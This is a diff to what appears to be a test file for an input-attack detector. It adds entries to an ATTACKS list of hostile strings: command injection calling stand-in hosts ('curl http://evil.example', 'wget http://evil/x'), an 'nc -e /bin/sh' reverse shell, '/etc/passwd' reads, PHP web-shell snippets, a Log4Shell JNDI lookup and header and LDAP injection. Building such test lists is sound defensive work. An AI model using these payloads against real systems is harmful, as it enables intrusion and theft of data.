@@ -38,6 +38,7 @@ const ATTACKS = [
   '; cat /etc/passwd', '| id', '`whoami`', '$(curl http://evil.example)', '&& ping -c 1 127.0.0.1', '() { :;}; /bin/bash', 'cmd.exe /c dir', ';wget http://evil/x', 'powershell.exe -enc', '/bin/sh -c id', '; ls -la', 'nc -e /bin/sh 1.2.3.4 99', '&net user', 'python -c "import os"',
   '<?php system($_GET[1]); ?>', 'phpinfo()', 'eval(base64_decode($_POST[x]))', 'php://input', '$_SERVER[PATH]', 'O:8:"stdClass":0:{}', 'allow_url_include=1', 'shell_exec(1)', 'data://text/plain;base64,xx', '$_GET["x"]',
   '_$$ND_FUNC$$_function(){}', 'require("child_process").exec', 'process.env', '${jndi:ldap://evil.example/a}', 'java.lang.Runtime', 'java.lang.ProcessBuilder', '#{7*7}', '%{(#a=@java.lang.Runtime@getRuntime())}', 'rO0ABXNyABFqYXZh', 'com.opensymphony.xwork2',
+  'safe_mode=off disable_functions=x', 'auto_prepend_file=php://input', 'java.lang.Runtime.getRuntime().exec("id")', 'clonetransformer java.io.unmarshaller', 'org.apache.xalan ProcessBuilder forname',
   '\r\nSet-Cookie: a=b', '%0d%0aLocation: x', 'HTTP/1.1 200 OK', '\n\nGET / HTTP/1.1', '.cookie; expires=', '<!--#exec cmd="ls"-->', '%00', 'a\u0001b', '(&(uid=*)(userPassword=*))', '*)(uid=*))(|(uid=*',
 ];
 const HARMLESS = [
